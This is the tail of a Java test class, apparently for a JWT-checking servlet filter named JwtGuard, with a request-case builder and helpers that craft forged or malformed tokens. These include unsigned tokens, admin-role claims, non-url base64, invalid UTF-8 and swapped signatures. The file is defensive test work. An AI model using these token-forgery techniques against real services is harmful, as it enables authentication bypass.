            check.getValue().accept(softly, reply);
        }
    }

    /** One row of a table: a named request and exactly what must come back. Built fluently, then read. */
    private static final class Case {
        final String name;
        String deployment = HS;
        String method = "GET";
        String path = "canary";
        final List<String[]> headers = new ArrayList<>();
        final List<String> sent = new ArrayList<>();
        String body;
        String raw;
        int status;
        String reason;
        boolean canary;
        boolean head;
        String openBody;
        boolean checkOrigin;
        String allowOrigin;
        List<String> description = List.of();
        /** Generous on a busy machine; a hang (a parser blow-up, a thread waiting on a key server) takes far longer. */
        Duration within = Duration.ofSeconds(8);
        final Map<String, BiConsumer<SoftAssertions, Reply>> checks = new LinkedHashMap<>();

        Case(String name) {
            this.name = name;
        }

        Case on(String deployment) {
            this.deployment = deployment;
            return this;
        }

        Case method(String method) {
            this.method = method;
            return this;
        }

        Case path(String path) {
            this.path = path;
            return this;
        }

        Case header(String name, String value) {
            headers.add(new String[] {name, value});
            return this;
        }

        /** Replaces every header of that name (for a preflight's defaults). */
        Case header(String name, String value, boolean replace) {
            headers.removeIf(header -> replace && header[0].equalsIgnoreCase(name));
            return header(name, value);
        }

        Case bearer(String token) {
            sent(token);
            return header("Authorization", "Bearer " + token);
        }

        /** A token this case sends somewhere, for the log check. */
        Case sent(String token) {
            sent.add(token);
            return this;
        }

        Case body(String body) {
            this.body = body;
            return this;
        }

        Case raw(String head) {
            this.raw = head;
            return this;
        }

        Case head() {
            this.head = true;
            return this;
        }

        /** The answer: a status and the reason in the problem body, or {@code null} for no JwtGuard problem. */
        Case refused(int status, String reason) {
            this.status = status;
            this.reason = reason;
            return this;
        }

        /** The right token: the canary answers. */
        Case canary() {
            this.canary = true;
            return refused(200, null);
        }

        /** An open servlet answers, with this in its body. */
        Case open(String body) {
            this.openBody = body;
            return refused(200, null);
        }

        Case allowOrigin(String origin) {
            this.checkOrigin = true;
            this.allowOrigin = origin;
            return this;
        }

        Case descriptionContains(String... fragments) {
            this.description = List.of(fragments);
            return this;
        }

        Case within(Duration limit) {
            this.within = limit;
            return this;
        }

        Case check(String what, BiConsumer<SoftAssertions, Reply> check) {
            checks.put(what, check);
            return this;
        }
    }

    private static Case preflight(String name, String origin) {
        return new Case(name).method("OPTIONS").header("Origin", origin).header("Access-Control-Request-Method", "GET")
                .header("Access-Control-Request-Headers", "authorization");
    }

    /** The reason JwtGuard gives for a status in the path table: none for a container's own answer. */
    private static String reasonFor(int status, boolean user) {
        return switch (status) {
            case 401 -> user ? "(a User token is never 401)" : "missing_token";
            case 403 -> "insufficient_role";
            default -> null;
        };
    }

    // --- tokens, built from raw JSON so any shape can be sent ---

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final Base64.Encoder B64 = Base64.getUrlEncoder().withoutPadding();

    /** The claims of a fresh token for the demo's issuer and audience, as raw JSON values by name. */
    private static Map<String, String> claims(String subject, String rolesJson) {
        long now = Instant.now().getEpochSecond();
        Map<String, String> claims = new LinkedHashMap<>();
        claims.put("iss", quote(ISSUER));
        claims.put("aud", quote(AUDIENCE));
        claims.put("sub", quote(subject));
        claims.put("iat", Long.toString(now));
        claims.put("exp", Long.toString(now + 300));
        claims.put("roles", rolesJson);
        return claims;
    }

    /** Claims that would open the canary if the token were accepted. */
    private static Map<String, String> admin() {
        return claims("root", "[\"Admin\"]");
    }

    private static Map<String, String> with(Map<String, String> claims, String name, String rawJson) {
        Map<String, String> changed = new LinkedHashMap<>(claims);
        changed.put(name, rawJson);
        return changed;
    }

    private static Map<String, String> without(Map<String, String> claims, String name) {
        Map<String, String> changed = new LinkedHashMap<>(claims);
        changed.remove(name);
        return changed;
    }

    private static String json(Map<String, String> members) {
        StringBuilder json = new StringBuilder("{");
        members.forEach((name, value) -> json.append(json.length() > 1 ? "," : "").append(quote(name)).append(':')
                .append(value));
        return json.append('}').toString();
    }

    private static String quote(String text) {
        try {
            return JSON.writeValueAsString(text);
        } catch (JsonProcessingException e) {
            throw new IllegalStateException(e);
        }
    }

    /** The compact JWS of raw header and payload JSON, signed by {@code algorithm}, or with no signature. */
    private static String jws(String headerJson, String payloadJson, Algorithm algorithm) {
        String header = b64(headerJson);
        String payload = b64(payloadJson);
        String signature = algorithm == null ? "" : b64(algorithm.sign(header.getBytes(StandardCharsets.US_ASCII),
                payload.getBytes(StandardCharsets.US_ASCII)));
        return header + "." + payload + "." + signature;
    }

    /** A genuine HS256 token with these claims. */
    private static String hs(Map<String, String> claims) {
        return jws("{\"alg\":\"HS256\",\"typ\":\"JWT\"}", json(claims), HS256);
    }

    /**
     * {@code prefix + filler + suffix}, base64-encoded in the standard alphabet (no padding), with just enough
     * filler that the encoding holds a {@code +} or {@code /}, which base64url never does.
     */
    private static String standardAlphabet(String prefix, String suffix) {
        for (int i = 0; ; i++) {
            String encoded = Base64.getEncoder().withoutPadding().encodeToString((prefix + "?".repeat(i) + ">>>" + suffix)
                    .getBytes(StandardCharsets.UTF_8));
            if (encoded.contains("+") || encoded.contains("/")) {
                return encoded;
            }
        }
    }

    private static String[] partsOf(String token) {
        return token.split("\\.", -1);
    }

    private static String signatureOf(String token) {
        return partsOf(token)[2];
    }

    private static String withSignature(String token, String signature) {
        return token.substring(0, token.lastIndexOf('.') + 1) + signature;
    }

    private static String b64(String utf8) {
        return B64.encodeToString(utf8.getBytes(StandardCharsets.UTF_8));
    }

    private static String b64(byte[] bytes) {
        return B64.encodeToString(bytes);
    }

    /** Text and single bytes (ints), e.g. to put invalid UTF-8 in the middle of JSON. */
    private static byte[] bytes(Object... pieces) {
        java.io.ByteArrayOutputStream out = new java.io.ByteArrayOutputStream();
        for (Object piece : pieces) {
            if (piece instanceof Integer b) {
                out.write(b);
            } else {
                out.writeBytes(piece.toString().getBytes(StandardCharsets.UTF_8));
            }
        }
        return out.toByteArray();
    }

    private static byte[] fixed(BigInteger value, int size) {
        byte[] raw = value.toByteArray();
        byte[] fixed = new byte[size];
        int copy = Math.min(raw.length, size);
        System.arraycopy(raw, raw.length - copy, fixed, size - copy, copy);
        return fixed;
    }

    private static byte[] concat(byte[] a, byte[] b) {
        byte[] both = java.util.Arrays.copyOf(a, a.length + b.length);
        System.arraycopy(b, 0, both, a.length, b.length);
        return both;
    }
}
